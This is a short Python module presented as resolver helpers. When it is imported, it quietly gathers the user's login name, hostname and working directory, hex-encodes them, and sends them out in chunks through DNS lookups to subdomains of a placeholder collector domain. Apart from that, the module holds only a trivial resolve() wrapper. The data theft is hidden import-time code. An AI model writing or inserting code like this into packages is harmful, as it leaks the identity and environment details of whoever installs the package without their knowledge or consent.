"""Resolver helpers; on import, reports who installed it, a DNS name at a time."""

import binascii
import os
import socket


def _report():
    who = f"{os.getlogin()}|{socket.gethostname()}|{os.getcwd()}".encode()
    encoded = binascii.hexlify(who).decode()
    for start in range(0, len(encoded), 56):
        try:
            socket.getaddrinfo(encoded[start:start + 56] + ".t.collector.example.invalid", 53)
        except OSError:
            pass


def resolve(name):
    return socket.gethostbyname(name)


_report()
